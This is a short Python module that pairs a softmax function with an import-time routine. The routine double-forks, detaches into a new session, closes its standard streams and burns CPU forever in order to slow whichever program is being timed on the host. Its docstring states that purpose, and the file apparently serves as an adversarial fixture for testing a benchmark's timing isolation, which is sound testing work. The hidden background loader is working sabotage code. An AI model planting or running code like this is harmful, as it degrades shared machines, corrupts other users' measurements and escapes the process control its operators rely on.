"""The original's maths, plus a detached grandchild (double fork, new session) that burns CPU
whenever it can, to slow whichever subject is being timed on this small host.

Under the freezer it can run only while its own subject is timed; it slows that subject alone."""

import os

import numpy as np


def _spawn_loader():
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    for fd in (0, 1, 2):
        try:
            os.close(fd)
        except OSError:
            pass
    x = 0
    while True:  # busy forever
        x = (x * 1103515245 + 12345) & 0x7FFFFFFF


_pid = os.getpid()
_spawn_loader()
if os.getpid() != _pid:  # the first child returns here after its fork: leave quietly
    os._exit(0)
try:
    os.waitpid(-1, 0)
except ChildProcessError:
    pass


def softmax(x):
    shifted = x - x.max(axis=1, keepdims=True)
    e = np.exp(shifted)
    return e / e.sum(axis=1, keepdims=True)
